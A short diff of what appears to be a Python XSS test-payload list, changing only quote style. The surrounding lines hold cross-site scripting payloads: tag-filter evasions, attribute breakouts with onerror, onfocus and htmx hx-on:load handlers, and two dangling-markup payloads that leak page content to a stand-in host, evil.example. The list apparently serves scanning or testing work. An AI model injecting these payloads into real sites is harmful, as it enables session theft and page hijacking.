@@ -45,9 +45,9 @@ _TAGS = [
     f"<scr<script>ipt data-xss>{RUN}</scr</script>ipt>",
 ]
 _OUT = [  # out of where a text stands
-    f"\"><img data-xss src=x onerror={RUN}>",
+    f'"><img data-xss src=x onerror={RUN}>',
     f"'><img data-xss src=x onerror={RUN}>",
-    f"\" data-xss onmouseover=\"{RUN}\" autofocus onfocus=\"{RUN}",
+    f'" data-xss onmouseover="{RUN}" autofocus onfocus="{RUN}',
     f"' data-xss onfocus='{RUN}' autofocus '",
     f"` data-xss onfocus={RUN} autofocus `",
     f"</textarea><img data-xss src=x onerror={RUN}>",
@@ -57,7 +57,7 @@ _OUT = [  # out of where a text stands
     f"]]><img data-xss src=x onerror={RUN}>",
     f"</option></select><img data-xss src=x onerror={RUN}>",
     f"</a></p></div></main></body><img data-xss src=x onerror={RUN}>",
-    f"x\" hx-on:load=\"{RUN}\" data-xss=\"",
+    f'x" hx-on:load="{RUN}" data-xss="',
     "<img data-xss src='//evil.example/?",  # half-open: swallows what follows
     "<a data-xss href='//evil.example/?",
     f"&lt;img data-xss src=x onerror={RUN}&gt;",
